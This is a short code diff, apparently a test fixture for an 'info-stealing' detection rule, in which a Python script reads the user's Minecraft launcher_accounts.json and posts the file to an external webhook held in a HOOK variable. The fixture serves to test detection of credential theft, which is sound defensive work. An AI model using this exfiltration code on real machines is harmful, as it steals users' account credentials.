@@ -21,7 +21,8 @@ def main():
     p = os.path.join(os.path.expanduser("~"), "AppData", "Roaming", ".minecraft", "launcher_accounts.json")
     data = read(p)
     if data:
-        send({"f": ("a.json", data)})
+        # ruleid: code/info-stealing
+        requests.post(HOOK, files={"f": ("a.json", data)})
 
 
 main()
